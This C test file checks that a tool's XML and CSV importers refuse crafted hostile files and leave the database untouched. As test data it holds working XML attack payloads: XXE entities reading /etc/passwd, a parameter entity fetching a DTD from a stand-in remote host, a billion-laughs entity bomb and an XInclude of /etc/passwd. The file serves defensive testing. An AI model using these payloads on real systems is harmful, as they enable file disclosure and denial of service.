/* test-hostile-input.c: crafted files against every importer
 *
 * Each case is a file an attacker (or an accident) could hand to an
 * importer. Every one must be refused with a clear error naming the file,
 * and leave the database exactly as it was. To cover a new importer, add
 * it to `importers` and its cases to `cases`.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include <glib/gstdio.h>

#include "grove-assessment.h"
#include "grove-framework.h"
#include "grove-org.h"
#include "grove-ratings-import.h"
#include "grove-test-store.h"
#include "grove-test-utils.h"

typedef struct {
  char       *dir;
  GroveStore *store;
  gint64      round;
} Fixture;

typedef gboolean (*ImportFunc) (Fixture     *f,
                                const char  *path,
                                GError     **error);

static gboolean
import_framework (Fixture     *f,
                  const char  *path,
                  GError     **error)
{
  g_autoptr(GroveFramework) framework = grove_framework_load_file (path, error);

  return framework != NULL && grove_framework_import (f->store, framework, error) > 0;
}

static gboolean
import_ratings (Fixture     *f,
                const char  *path,
                GError     **error)
{
  return grove_ratings_import_file (f->store, f->round, path, NULL, NULL, error);
}

/* How a case's file is made: its text, or text repeated to a size. */
typedef struct {
  const char *name;
  ImportFunc  import;
  const char *file;      /* the file's name, which the error must give */
  const char *text;      /* NULL: made by `make` */
  gssize      length;    /* -1: up to the NUL */
  void      (*make) (const char *path);
  GQuark    (*domain) (void);
  gint        code;
  const char *message;   /* part of the error's message */
} HostileCase;

/* A survey header for the built-in framework, then `row` after it. */
#define SURVEY_HEADER "team,benefits-of-improvement,able-to-improve,value-expertise,review-lessons," \
  "monitor-outcomes,reflect-on-performance,receive-feedback,honest-feedback,share-knowledge,share-lessons," \
  "develop-others,know-standards,know-outcomes,know-capabilities,learning-from-experience," \
  "transfer-formal-learning,practice-and-repetition,time-and-space,formal-learning,experiences," \
  "practice-and-transfer,people-to-learn-from,evidence:able-to-improve\n"
#define SURVEY_ROW "Hostile Team,4,4,4,4,4,4,4,4,4,4,4,4,4,4,4,4,4,4,4,4,4,4,"

#define FRAMEWORK_HEAD "<framework id=\"hostile\"><title>"
#define FRAMEWORK_TAIL "</title><scale><point value=\"1\">a</point><point value=\"2\">b</point>" \
  "<not-observed>n</not-observed></scale><condition id=\"c\"><title>C</title>" \
  "<statement id=\"s\">S</statement></condition></framework>\n"

/* Sparse: over the limit in size, without writing the bytes. */
static void
make_sparse (const char *path,
             goffset     size)
{
  FILE *file = g_fopen (path, "w");

  g_assert_nonnull (file);
  g_assert_cmpint (ftruncate (fileno (file), size), ==, 0);
  fclose (file);
}

static void
make_huge_framework (const char *path)
{
  make_sparse (path, 2 * 1024 * 1024);
}

static void
make_huge_survey (const char *path)
{
  make_sparse (path, GROVE_CSV_DEFAULT_MAX_FILE_SIZE + 1);
}

/* The XML limits: an element 10,000 deep, past libxml2's depth limit. */
static void
make_deep_framework (const char *path)
{
  g_autoptr(GString) text = g_string_new (FRAMEWORK_HEAD);

  for (int i = 0; i < 10000; i++)
    g_string_append (text, "<b>");
  for (int i = 0; i < 10000; i++)
    g_string_append (text, "</b>");
  g_string_append (text, FRAMEWORK_TAIL);
  g_assert_true (g_file_set_contents (path, text->str, text->len, NULL));
}

static void
make_long_title (const char *path)
{
  g_autofree char *title = g_strnfill (100000, 'x');
  g_autofree char *text = g_strconcat (FRAMEWORK_HEAD, title, FRAMEWORK_TAIL, NULL);

  g_assert_true (g_file_set_contents (path, text, -1, NULL));
}

static void
make_long_field (const char *path)
{
  g_autofree char *evidence = g_strnfill (GROVE_CSV_DEFAULT_MAX_FIELD_LENGTH + 1, 'x');
  g_autofree char *text = g_strconcat (SURVEY_HEADER, SURVEY_ROW, evidence, "\n", NULL);

  g_assert_true (g_file_set_contents (path, text, -1, NULL));
}

/* A quote that never closes swallows the rest of the file into one field. */
static void
make_runaway_quote (const char *path)
{
  g_autoptr(GString) text = g_string_new (SURVEY_HEADER SURVEY_ROW "\"");

  while (text->len < 1024 * 1024)
    g_string_append (text, SURVEY_ROW "\n");
  g_assert_true (g_file_set_contents (path, text->str, text->len, NULL));
}

#define FW(name, text, length, code, message) \
  { name, import_framework, "framework.xml", text, length, NULL, grove_framework_error_quark, code, message }
#define FW_MADE(name, make, code, message) \
  { name, import_framework, "framework.xml", NULL, -1, make, grove_framework_error_quark, code, message }
#define CSV(name, text, length, code, message) \
  { name, import_ratings, "survey.csv", text, length, NULL, grove_csv_error_quark, code, message }
#define CSV_MADE(name, make, code, message) \
  { name, import_ratings, "survey.csv", NULL, -1, make, grove_csv_error_quark, code, message }

static const HostileCase cases[] = {
  FW ("framework/xxe",
      "<?xml version=\"1.0\"?>\n<!DOCTYPE framework [\n<!ENTITY secret SYSTEM \"file:///etc/passwd\">\n]>\n"
      FRAMEWORK_HEAD "&secret;" FRAMEWORK_TAIL, -1, GROVE_FRAMEWORK_ERROR_PARSE, "DOCTYPE"),
  FW ("framework/xxe-parameter-entity",
      "<?xml version=\"1.0\"?>\n<!DOCTYPE framework [\n<!ENTITY % remote SYSTEM \"http://192.0.2.1/x.dtd\">\n%remote;\n]>\n"
      FRAMEWORK_HEAD "T" FRAMEWORK_TAIL, -1, GROVE_FRAMEWORK_ERROR_PARSE, "DOCTYPE"),
  FW ("framework/external-dtd",
      "<?xml version=\"1.0\"?>\n<!DOCTYPE framework SYSTEM \"/etc/passwd\">\n" FRAMEWORK_HEAD "T" FRAMEWORK_TAIL,
      -1, GROVE_FRAMEWORK_ERROR_PARSE, "DOCTYPE"),
  FW ("framework/billion-laughs",
      "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n"
      " <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n"
      " <!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">\n"
      " <!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n"
      " <!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">\n"
      "]>\n" FRAMEWORK_HEAD "&lol4;" FRAMEWORK_TAIL, -1, GROVE_FRAMEWORK_ERROR_PARSE, "DOCTYPE"),
  FW ("framework/xinclude",
      "<framework id=\"hostile\" xmlns:xi=\"http://www.w3.org/2001/XInclude\"><title>T</title>"
      "<xi:include href=\"/etc/passwd\" parse=\"text\"/></framework>\n",
      -1, GROVE_FRAMEWORK_ERROR_INVALID, "framework.xml:1:"),
  FW ("framework/undeclared-entity", FRAMEWORK_HEAD "&nbsp;" FRAMEWORK_TAIL, -1,
      GROVE_FRAMEWORK_ERROR_PARSE, "nbsp"),
  FW ("framework/invalid-utf8", FRAMEWORK_HEAD "caf\xc3\x28" FRAMEWORK_TAIL, -1,
      GROVE_FRAMEWORK_ERROR_PARSE, "framework.xml:1: the text is not valid UTF-8; save the file as UTF-8"),
  FW ("framework/nul-byte", FRAMEWORK_HEAD "a\0b" FRAMEWORK_TAIL, sizeof (FRAMEWORK_HEAD "a\0b" FRAMEWORK_TAIL) - 1,
      GROVE_FRAMEWORK_ERROR_PARSE, "framework.xml:1:"),
  FW_MADE ("framework/over-long-title", make_long_title, GROVE_FRAMEWORK_ERROR_INVALID, "1 to 200 characters"),
  FW_MADE ("framework/deep-nesting", make_deep_framework, GROVE_FRAMEWORK_ERROR_PARSE,
           "framework.xml:1: elements are nested far more deeply than a framework needs"),
  FW_MADE ("framework/huge", make_huge_framework, GROVE_FRAMEWORK_ERROR_TOO_LARGE, "larger than 1024 KiB"),

  CSV ("ratings/invalid-utf8", SURVEY_HEADER SURVEY_ROW "caf\xc3\x28\n", -1, GROVE_CSV_ERROR_ENCODING,
       "not valid UTF-8"),
  CSV ("ratings/latin1", SURVEY_HEADER "Caf\xe9 Team,4,4,4,4,4,4,4,4,4,4,4,4,4,4,4,4,4,4,4,4,4,4,\n", -1,
       GROVE_CSV_ERROR_ENCODING, "survey.csv:2"),
  CSV ("ratings/nul-byte", SURVEY_HEADER SURVEY_ROW "a\0b\n", sizeof (SURVEY_HEADER SURVEY_ROW "a\0b\n") - 1,
       GROVE_CSV_ERROR_ENCODING, "NUL"),
  CSV_MADE ("ratings/over-long-field", make_long_field, GROVE_CSV_ERROR_TOO_LARGE, "longer than 16384 bytes"),
  CSV_MADE ("ratings/runaway-quote", make_runaway_quote, GROVE_CSV_ERROR_TOO_LARGE, "survey.csv:2"),
  CSV_MADE ("ratings/huge", make_huge_survey, GROVE_CSV_ERROR_TOO_LARGE, "67108864"),
};

static void
fixture_set_up (Fixture       *f,
                gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *path = NULL;
  g_autoptr(GroveFramework) builtin = NULL;
  g_autoptr(GroveRound) round = NULL;
  gint64 org;

  f->dir = grove_test_mkdtemp ();
  path = g_build_filename (f->dir, "grove.db", NULL);
  f->store = grove_store_open (path, &error);
  g_assert_no_error (error);
  org = grove_org_add_unit (f->store, GROVE_ORG_UNIT_ORGANISATION, "Org", 0, &error);
  g_assert_cmpint (grove_org_add_unit (f->store, GROVE_ORG_UNIT_TEAM, "Hostile Team", org, &error), >, 0);
  builtin = grove_framework_get_by_key (f->store, GROVE_FRAMEWORK_BUILTIN_KEY, &error);
  g_assert_no_error (error);
  round = grove_round_new ("Round", builtin->id, "2026-01-01", "2026-12-31");
  f->round = grove_assessment_add_round (f->store, round, &error);
  g_assert_no_error (error);
}

static void
fixture_tear_down (Fixture       *f,
                   gconstpointer  data)
{
  g_clear_object (&f->store);
  grove_test_rmdir (f->dir);
  g_free (f->dir);
}

/* Every table an importer writes, counted. */
static char *
fingerprint (GroveStore *store)
{
  static const char *tables[] = {
    "framework", "framework_scale_point", "framework_condition", "framework_statement",
    "assessment_response", "assessment_rating", "org_unit", "person",
  };
  GString *counts = g_string_new (NULL);

  for (guint i = 0; i < G_N_ELEMENTS (tables); i++)
    {
      g_autofree char *sql = g_strdup_printf ("SELECT count(*) FROM %s", tables[i]);

      g_string_append_printf (counts, "%s=%" G_GINT64_FORMAT " ", tables[i], grove_test_query_int (store, sql));
    }
  return g_string_free (counts, FALSE);
}

static void
test_refused (Fixture       *f,
              gconstpointer  data)
{
  const HostileCase *c = data;
  g_autoptr(GError) error = NULL;
  g_autofree char *path = g_build_filename (f->dir, c->file, NULL);
  g_autofree char *before = fingerprint (f->store);
  g_autofree char *after = NULL;

  if (c->make != NULL)
    c->make (path);
  else
    g_assert_true (g_file_set_contents (path, c->text, c->length, NULL));

  g_assert_false (c->import (f, path, &error));
  g_assert_error (error, c->domain (), c->code);
  if (strstr (error->message, c->file) == NULL || strstr (error->message, c->message) == NULL)
    g_error ("expected “%s” and “%s” in: %s", c->file, c->message, error->message);
  /* An error is a sentence for people, never a dump of the file. */
  g_assert_cmpuint (strlen (error->message), <, 1000);
  g_test_message ("%s", error->message);

  after = fingerprint (f->store);
  g_assert_cmpstr (after, ==, before);
  g_assert_true (grove_store_check_integrity (f->store, NULL));
}

/* The same importers take a good file, so a refusal above is the file's. */
static void
test_good_files_pass (Fixture       *f,
                      gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *xml = grove_test_write_file (f->dir, "framework.xml", FRAMEWORK_HEAD "Fine" FRAMEWORK_TAIL, -1);
  g_autofree char *csv = grove_test_write_file (f->dir, "survey.csv", SURVEY_HEADER SURVEY_ROW "ok\n", -1);

  g_assert_true (import_framework (f, xml, &error));
  g_assert_no_error (error);
  g_assert_true (import_ratings (f, csv, &error));
  g_assert_no_error (error);
  g_assert_cmpint (grove_test_query_int (f->store, "SELECT count(*) FROM assessment_response"), ==, 1);
}

int
main (int    argc,
      char **argv)
{
  g_test_init (&argc, &argv, NULL);

  g_test_add ("/hostile/good-files-pass", Fixture, NULL, fixture_set_up, test_good_files_pass, fixture_tear_down);
  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *path = g_strdup_printf ("/hostile/%s", cases[i].name);

      g_test_add (path, Fixture, &cases[i], fixture_set_up, test_refused, fixture_tear_down);
    }
  return g_test_run ();
}
